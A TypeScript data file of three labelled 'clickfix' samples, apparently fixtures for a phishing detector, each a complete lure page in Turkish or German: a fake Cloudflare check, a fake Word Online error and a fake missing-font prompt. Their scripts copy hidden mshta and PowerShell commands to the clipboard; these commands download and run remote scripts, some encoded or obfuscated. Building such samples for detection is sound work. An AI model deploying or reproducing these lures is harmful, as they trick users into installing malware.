import { type Entry } from '../entry.js';
import { charCodes, doc, logo, textRoute } from '../parts/xb-kit.js';

export const entries: Entry[] = [
  {
    id: 'xb-clickfix-cf-dogrulama-mshta',
    label: 'clickfix',
    kind: 'fake-captcha-run-dialog',
    url: 'https://dogrulama-cf-kontrol.com/cdn-cgi/challenge-platform/tr?ray=8d1f44a2c07e4471',
    body: doc({
      title: 'Bir dakika lütfen...',
      css: `body{margin:0;font-family:system-ui,-apple-system,"Segoe UI",Roboto,Arial,sans-serif;background:#fff;color:#313131}.m{max-width:620px;margin:90px auto 0;padding:0 20px}.m h1{font-size:34px;font-weight:500;margin:0 0 10px}
.cb{display:flex;align-items:center;justify-content:space-between;border:1px solid #d9d9d9;background:#fafafa;width:300px;height:64px;padding:0 14px;margin:22px 0;border-radius:3px}.cb label{display:flex;gap:10px;align-items:center;cursor:pointer;font-size:15px}
.cb input{width:24px;height:24px}.ft{font-size:12px;color:#555;margin-top:70px;border-top:1px solid #eee;padding-top:10px}#st{display:none;border:1px solid #d9d9d9;border-radius:4px;padding:16px 20px;background:#fbfbfb;max-width:460px}
#st ol{padding-left:18px;line-height:2}kbd{background:#eee;border:1px solid #bbb;border-radius:3px;padding:1px 6px;font-size:13px}`,
      body: `<div class="m"><h1>dogrulama-cf-kontrol.com</h1><p>Devam etmeden önce bağlantınızın güvenliğini doğrulamamız gerekiyor.</p>
<div class="cb" id="cb"><label><input type="checkbox" id="ck"> Ben robot değilim</label><span style="font-size:10px;color:#888;text-align:right">CLOUDFLARE<br>Gizlilik · Şartlar</span></div>
<div id="st"><b>Doğrulama adımları</b><ol><li><kbd>Windows</kbd> + <kbd>R</kbd> tuşlarına birlikte basın</li><li>Açılan pencerede <kbd>CTRL</kbd> + <kbd>V</kbd> tuşlarına basın</li><li><kbd>Enter</kbd> tuşuna basarak doğrulamayı tamamlayın</li></ol><p style="font-size:12px;color:#777">Doğrulama kimliği otomatik olarak panonuza kopyalandı.</p></div>
<p>Bu işlem birkaç saniye sürebilir.</p><div class="ft">Ray ID: <code>8d1f44a2c07e4471</code> · Performans ve güvenlik: Cloudflare</div></div>
<script>
var cmd='mshta https://dogrulama-cf-kontrol.com/cdn-cgi/v/ray-8d1f44a2.hta # \\u2705 \\'\\'Ben robot de\\u011filim - Cloudflare Do\\u011frulama Kimli\\u011fi: 4471\\'\\'';
document.getElementById('ck').addEventListener('click',function(){
  var t=document.createElement('textarea');t.value=cmd;document.body.appendChild(t);t.select();try{document.execCommand('copy')}catch(e){}t.remove();
  if(navigator.clipboard)navigator.clipboard.writeText(cmd).catch(function(){});
  document.getElementById('cb').style.display='none';document.getElementById('st').style.display='block';
  fetch('/cdn-cgi/l?ev=copy&ray=8d1f44a2',{mode:'no-cors'}).catch(function(){});
});
</script>`,
    }),
    routes: {
      'dogrulama-cf-kontrol.com/cdn-cgi/v/ray-8d1f44a2.hta': textRoute(`<html><head><HTA:APPLICATION ID="v" WINDOWSTATE="minimize" SHOWINTASKBAR="no"><script language="VBScript">
Set s = CreateObject("WScript.Shell")
s.Run "powershell -w hidden -ep bypass -enc ${Buffer.from("iex (iwr 'https://dogrulama-cf-kontrol.com/cdn-cgi/v/p.ps1' -UseBasicParsing).Content", 'utf16le').toString('base64')}", 0, False
self.close
</script></head><body></body></html>`, 'application/hta'),
    },
  },
  {
    id: 'xb-clickfix-onedrive-word-uzanti-hatasi',
    label: 'clickfix',
    kind: 'fake-error-fix-powershell',
    url: 'https://onedrive-belge-paylasim.com/personal/view.aspx?doc=Fiyat_Teklifi_2025.docx',
    body: doc({
      title: 'Fiyat_Teklifi_2025.docx - Microsoft Word Online',
      css: `body{margin:0;font-family:"Segoe UI",Arial,sans-serif;background:#f3f2f1}.rb{background:#185abd;color:#fff;height:48px;display:flex;align-items:center;padding:0 16px;gap:14px}.tb{background:#fff;height:40px;border-bottom:1px solid #e1dfdd}
.pg{width:640px;height:760px;background:#fff;margin:20px auto;box-shadow:0 0 6px #0002;position:relative}.pg .txt{padding:60px;color:#bbb;filter:blur(2px)}.er{position:absolute;top:120px;left:50%;transform:translateX(-50%);width:460px;background:#fff;border:1px solid #c8c6c4;box-shadow:0 6px 20px #0003;padding:22px}
.er h3{margin-top:0;color:#a4262c}.er button{background:#185abd;color:#fff;border:0;padding:9px 18px;border-radius:2px;font-size:14px}.hw{display:none;background:#f3f2f1;border-left:3px solid #185abd;padding:10px 14px;font-size:13px;margin-top:12px;line-height:1.8}`,
      body: `<div class="rb">${logo({ name: 'Word', color: '#ffffff', mark: 'bars', height: 28 })}<span>Fiyat_Teklifi_2025.docx · Kaydedildi</span></div><div class="tb"></div>
<div class="pg"><div class="txt"><h2>FİYAT TEKLİFİ</h2><p>Sayın Yetkili, talebiniz doğrultusunda hazırlanan 2025 yılı fiyat teklifimiz ekte sunulmuştur. Toplam tutar: 418.500,00 TL + KDV</p><p>Teslim süresi: 15 iş günü ...</p></div>
<div class="er"><h3>⚠ Belge görüntülenemiyor</h3><p style="font-size:14px">"Word Online" uzantısı tarayıcınızda yüklü değil veya güncel değil. Belgeyi görüntülemek için uzantıyı manuel olarak güncellemeniz gerekir.</p><button id="fx">Nasıl düzeltilir?</button>
<div class="hw" id="hw"><b>Düzeltme talimatı (kopyalandı ✓):</b><br>1. <b>Windows + X</b> tuşlarına basın ve <b>Terminal (Yönetici)</b> seçeneğini açın<br>2. Sağ tıklayarak veya <b>CTRL + V</b> ile yapıştırın<br>3. <b>Enter</b>'a basın ve sayfayı yenileyin</div></div></div>
<script>
var p=['powershell -NoProfile -WindowStyle Hidden -EncodedCommand ','${Buffer.from("$w=New-Object Net.WebClient;$w.Headers.Add('User-Agent','WordOnlineFix');iex $w.DownloadString('https://onedrive-belge-paylasim.com/cdn/wordfix.ps1')", 'utf16le').toString('base64')}'];
document.getElementById('fx').onclick=function(){var c=p.join('');navigator.clipboard.writeText(c).catch(function(){var t=document.createElement('textarea');t.value=c;document.body.appendChild(t);t.select();document.execCommand('copy');t.remove()});document.getElementById('hw').style.display='block';this.textContent='Kopyalandı'};
</script>`,
    }),
  },
  {
    id: 'xb-clickfix-de-imbiss-schriftart-fehlt',
    label: 'clickfix',
    kind: 'compromised-site-fake-font-fix-de',
    url: 'https://www.anadolu-grill-koeln.de/speisekarte/',
    body: doc({
      title: 'Speisekarte – Anadolu Grill Köln-Kalk',
      lang: 'de',
      css: `body{margin:0;font-family:Georgia,serif;background:#fffaf3;color:#3a2a1a}.hd{background:#7b1e1e;color:#fff;padding:20px 30px}.hd h1{margin:0}.menu{max-width:720px;margin:20px auto;padding:0 14px}.menu li{display:flex;justify-content:space-between;border-bottom:1px dotted #c9a;padding:6px 0}
.gl{color:#b99;font-family:monospace;letter-spacing:2px}#ov{position:fixed;inset:0;background:#0009;display:flex;align-items:center;justify-content:center;font-family:Arial,sans-serif}#ov .b{background:#fff;width:460px;border-radius:6px;padding:22px}#ov button{background:#1a73e8;color:#fff;border:0;padding:10px 20px;border-radius:4px}
#ov .s{display:none;background:#f1f3f4;padding:10px;margin-top:10px;font-size:14px;line-height:1.8}`,
      body: `<div class="hd"><h1>Anadolu Grill</h1><p>Kalker Hauptstr. 212 · 51103 Köln · 0221 8839 471</p></div>
<div class="menu"><h2>Speisekarte</h2><ul style="list-style:none;padding:0"><li><span class="gl">▯▯▯▯▯▯ ▯▯▯▯▯</span><span>7,50 €</span></li><li><span class="gl">▯▯▯▯▯▯▯ ▯▯▯▯</span><span>8,90 €</span></li><li><span class="gl">▯▯▯▯▯ ▯▯▯▯▯▯▯</span><span>13,50 €</span></li><li><span class="gl">▯▯▯▯▯▯▯▯</span><span>4,00 €</span></li></ul></div>
<div id="ov"><div class="b"><h3 style="margin-top:0">Die Schriftart „Anatolia Sans" wurde nicht gefunden</h3><p style="font-size:14px">Die Webseite verwendet eine Schriftart, die auf Ihrem System fehlt. Der Text kann nicht korrekt angezeigt werden. Installieren Sie das Schriftpaket, um fortzufahren.</p><button id="fix">Schriftart installieren</button>
<div class="s" id="s">So installieren Sie das Schriftpaket:<br>1. Drücken Sie <b>Windows-Taste + R</b><br>2. Fügen Sie mit <b>Strg + V</b> ein<br>3. Drücken Sie <b>Enter</b></div></div></div>
<script>
var _k=[${charCodes("powershell -w 1 -c \"iex(New-Object Net.WebClient).DownloadString('https://fonts-update-cdn.com/anatolia/install.ps1')\"", 7)}];
document.getElementById('fix').onclick=function(){var s='';for(var i=0;i<_k.length;i++)s+=String.fromCharCode(_k[i]-7);navigator.clipboard.writeText(s);document.getElementById('s').style.display='block'};
</script>`,
    }),
  },
];
